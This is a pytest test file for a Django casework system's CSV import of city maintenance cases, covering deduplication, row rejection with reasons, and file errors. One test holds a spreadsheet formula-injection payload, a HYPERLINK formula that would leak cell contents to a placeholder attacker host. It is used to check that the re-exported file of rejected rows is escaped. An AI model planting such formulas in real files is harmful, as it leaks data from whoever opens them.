"""Cases from a file: the same rows as one by one, bad rows put aside with reasons, and nothing twice."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import datetime, timedelta
from typing import Any

import pytest
from django.conf import settings
from django.db import transaction as django_transaction
from django.db.models import Model
from tests.nets.casework.conftest import District
from tests.support.city import HIGH_TECH, WUHOU
from tests.support.responsibilities import install_standard, load_lines, standard_type

from furong.foundation.identity.actors import system_actor
from furong.foundation.outbox.models import OutboxDelivery, OutboxEvent
from furong.foundation.tables.errors import TableBroken, TableColumnsMissing, TableEmpty, TableEncodingUnusable
from furong.foundation.transactions import transaction
from furong.kernel.clock import FrozenClock
from furong.nets.casework import api as casework
from furong.nets.casework.api.imports import import_cases, rejected_file
from furong.nets.casework.api.routing import dispatch_certain_cases
from furong.nets.casework.contracts import CaseState, CaseTypeSpec, NewCase, Source
from furong.nets.casework.contracts.imports import ImportReport
from furong.nets.casework.models import (
    Case,
    CaseImport,
    CaseSerial,
    DeadlineRow,
    HistoryRow,
    Recurrence,
    RejectedCase,
    Routing,
    Task,
    Timer,
)

pytestmark = pytest.mark.django_db

HEADER = (
    "source",
    "source_key",
    "class",
    "condition",
    "title",
    "title_en",
    "area",
    "place",
    "lon",
    "lat",
    "occurred_at",
)
BY = system_actor("import")
OWN = "own/streetlight"
STORED = (Case, Task, Timer, DeadlineRow, Routing, HistoryRow, CaseSerial, OutboxEvent, OutboxDelivery)
#: What differs from run to run: running numbers, and what follows from them or from the wall clock.
VOLATILE = {"id", "sequence", "event_id", "stored_at", "counted_at"}
GOOD = ("patrol", "k1", "E01-12", "1", "路面油污", "Oil on the road", HIGH_TECH, "天府三街", "104.061", "30.551")
AT = "2026-11-23T10:00:00+08:00"


@pytest.fixture(autouse=True)
def city(district: District, monkeypatch: pytest.MonkeyPatch) -> District:
    """A district with a standard table, a type of its own, and a list that is certain of some things."""
    install_standard()
    load_lines(
        ("E", "510100", "城市管理委", "", "三定规定 第3条", "2020-01-01", ""),
        ("E01-12", HIGH_TECH, "operator-a", "operator-b", "权责清单 第12项", "2026-01-01", ""),
        ("01-01", HIGH_TECH, "operator-a", "", "权责清单 第1项", "2026-01-01", ""),
        ("01-01", HIGH_TECH, "operator-c", "", "街道职责 第4项", "2026-01-01", ""),
    )
    spec = CaseTypeSpec(
        task_zh="{place}：修复",
        task_en="{place}: mend it",
        title_zh="路灯",
        title_en="Street light",
        key=OWN,
        class_code="01-20",
        limit=3.0,
        limit_kind="natural_day",
        start_rule="next_day",
        closing_zh="亮",
        closing_en="lit",
        organisations={"": "operator-b"},
        results=("cleared",),
        photos_before=0,
        photos_after=1,
        source="test",
    )
    with transaction():
        casework.install_case_type(spec)
    monkeypatch.setitem(settings.FURONG_OPTIONS, "CASEWORK_AUTO_DISPATCH", ("standard", OWN))
    return district


def as_csv(rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode()


def imported(*rows: Sequence[str], header: Sequence[str] = HEADER) -> ImportReport:
    return import_cases("cases.csv", as_csv(rows, header), BY)


def row(
    key: str, *, code: str = "E01-12", condition: str = "1", area: str = HIGH_TECH, at: str = AT, lat: str = "30.551"
) -> list[str]:
    return ["patrol", key, code, condition, f"事项 {key}", f"Matter {key}", area, "天府三街", "104.061", lat, at]


def stored(model: type[Model]) -> list[Any]:
    """All rows of a model by the case that they belong to, in their order, without what differs from run to run."""
    volatile = VOLATILE - {"id"} if model is Task else VOLATILE
    rows = [
        {name: value for name, value in values.items() if name not in volatile}
        for values in model._default_manager.order_by("pk").values()
    ]
    return sorted(
        rows,
        key=lambda told: str(
            told.get("case_id") or told.get("subject") or [(name, str(value)) for name, value in told.items()]
        ),
    )


def everything() -> dict[str, list[Any]]:
    return {model.__name__: stored(model) for model in STORED}


def open_alone(one: Sequence[str]) -> None:
    new = NewCase(
        source=Source(one[0]),
        source_key=one[1],
        case_type=one[11] or standard_type(one[2], int(one[3])),
        title_zh=one[4],
        title_en=one[5],
        priority="4",
        area=one[6],
        place_zh=one[7],
        place_en=one[7],
        lon=float(one[8]),
        lat=float(one[9]),
        occurred_at=datetime.fromisoformat(one[10]),
    )
    with transaction():
        casework.open_case(new, BY)


def test_the_rows_are_those_that_opening_and_dispatching_one_by_one_leaves(clock: FrozenClock) -> None:
    clock.advance(timedelta(seconds=1.5))
    rows = [
        row("certain"),
        row("uncertain", code="01-01"),
        row("urgent", code="01-01", area=WUHOU),
        row("elsewhere", area=WUHOU, at="2026-11-20T17:50:00.250+08:00"),
        row("holiday", at="2026-10-01T09:00:00+08:00"),
        row("last month", at="2026-10-30T23:59:59+08:00"),
        *(
            row(f"many {number}", at=f"2026-11-23T{8 + number:02}:10:00+08:00", lat=f"30.56{number // 2}")
            for number in range(4)
        ),
    ]
    own = ["hotline", "lamp", "", "", "路灯不亮", "A dark lamp", HIGH_TECH, "天府三街", "104.061", "30.551", AT, OWN]
    whole = [*([*one, ""] for one in rows), own]
    before = django_transaction.savepoint()
    report = imported(*whole, header=(*HEADER, "case_type"))
    assert (report.opened, report.known, report.rejected) == (11, 0, ())
    in_bulk = everything()
    django_transaction.savepoint_rollback(before)
    assert Case.objects.count() == 0
    for one in whole:
        open_alone(one)
    dispatched = dispatch_certain_cases()
    # The second and the fourth of the many may be the matter of the one before them.
    assert dispatched == report.dispatched == 7
    one_by_one = everything()
    for name, told in one_by_one.items():
        assert in_bulk[name] == told, name
    assert len(one_by_one["Timer"]) == 2 * 11 + 7
    assert len(one_by_one["Routing"]) == 6


def test_what_came_back_is_linked_and_waits_in_bulk_as_well(clock: FrozenClock) -> None:
    imported(row("first"))
    Case.objects.update(state=CaseState.CLOSED, closed_at=clock.now())
    clock.advance(timedelta(days=3))
    again = imported(row("again", at=clock.now().isoformat()))
    assert (again.opened, again.dispatched) == (1, 0)
    link = Recurrence.objects.get()
    assert (link.earlier.source_key, link.case.source_key) == ("first", "again")
    steps = HistoryRow.objects.filter(case=link.case_id).order_by("pk").values_list("step", flat=True)
    assert list(steps)[:2] == ["open", "recur"]


def test_a_file_again_and_a_key_twice_open_nothing_twice() -> None:
    first = imported(row("a"), row("b"), row("a"))
    assert (first.opened, first.known) == (2, 1)
    again = imported(row("a"), row("b"), row("c"))
    assert (again.opened, again.known) == (1, 2)
    numbers = sorted(Case.objects.values_list("number", flat=True))
    assert [int(number[-5:]) for number in numbers] == [1, 2, 3]
    assert [(b.rows, b.opened, b.known, b.dispatched) for b in CaseImport.objects.order_by("pk")] == [
        (3, 2, 1, 1),
        (3, 1, 2, 0),
    ]


def test_bad_rows_are_put_aside_with_every_reason_and_the_others_are_opened() -> None:
    bad = [
        ["nobody", *row("x1")[1:]],
        [*row("x2")[:10], "soon"],
        row("x3", code="E99-99"),
        row("x4", code="01-01", condition=""),
        row("x5", area="999999"),
        [*row("x6")[:8], "east", "91", AT],
        row("", at="2099-01-01 08:00"),
        [*row("x8")[:4], "长" * 201, *row("x8")[5:]],
    ]
    report = imported(row("good"), *bad)
    assert (report.rows, report.opened, len(report.rejected)) == (9, 1, 8)
    found = {one.row: [(problem.column, problem.code) for problem in one.problems] for one in report.rejected}
    assert found == {
        3: [("source", "source_unknown")],
        4: [("occurred_at", "time_unusable")],
        5: [("class", "class_unknown")],
        6: [("class", "class_unknown")],
        7: [("area", "area_unknown")],
        8: [("lon", "place_unusable"), ("lat", "place_unusable")],
        9: [("source_key", "key_missing"), ("occurred_at", "time_ahead")],
        10: [("title", "text_long")],
    }
    assert RejectedCase.objects.count() == 10
    told = {problem.zh for one in report.rejected for problem in one.problems}
    assert {"坐标“east”不可用，应为 WGS 84 十进制度", "时间“soon”无法识别，应如 2026-11-24 08:30:00"} <= told
    mended = rejected_file(report.rejected).replace("nobody", "patrol")
    again = import_cases("again.csv", mended.encode("utf-8-sig"), BY)
    assert (again.rows, again.opened, len(again.rejected)) == (8, 1, 7)


def test_no_row_that_was_put_aside_is_a_formula_in_the_file_that_is_mended() -> None:
    link = '=HYPERLINK("https://evil.example/?"&A2,"改")'
    report = imported([*row("@SUM(A1)")[:4], link, *row("")[5:10], "soon"])
    names, cells = csv.reader(io.StringIO(rejected_file(report.rejected)))
    one = dict(zip(names, cells, strict=True))
    assert (one["source_key"], one["title"], one["row"]) == ("'@SUM(A1)", f"'{link}", "2")


def test_what_a_file_leaves_out_is_completed() -> None:
    header = ("来源", "编号", "类别代码", "经度", "纬度", "发生时间", "地点")
    report = import_cases(
        "案件.csv", as_csv([["hotline", "h1", "e01-12", "104.07", "30.64", "2026/11/23 10:00", "人民南路"]], header), BY
    )
    assert report.rejected == ()
    case = Case.objects.get()
    assert (case.title_zh, case.priority, case.opened_at.isoformat()) == ("道路不洁", "4", "2026-11-23T02:00:00+00:00")
    assert case.area_path.startswith("510100/5101")
    assert case.state == CaseState.PENDING_HANDLE


def test_without_dispatch_everything_waits() -> None:
    report = import_cases("cases.csv", as_csv([row("a")]), BY, dispatch=False)
    assert (report.opened, report.dispatched) == (1, 0)
    assert list(Case.objects.values_list("state", flat=True)) == [CaseState.PENDING_DISPATCH]


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"", TableEmpty),
        (",".join(HEADER).encode(), TableEmpty),
        (b"a,b\n1,2\n", TableColumnsMissing),
        (b"\xff\xff\x00,\x81\n", TableEncodingUnusable),
        (as_csv([["patrol"]]) + b'"never closed', TableBroken),
    ],
    ids=["nothing", "header", "columns", "encoding", "quote"],
)
def test_a_file_that_is_no_table_of_cases_is_told_so(content: bytes, error: type[Exception]) -> None:
    with pytest.raises(error):
        import_cases("cases.csv", content, BY)
    assert not CaseImport.objects.exists()
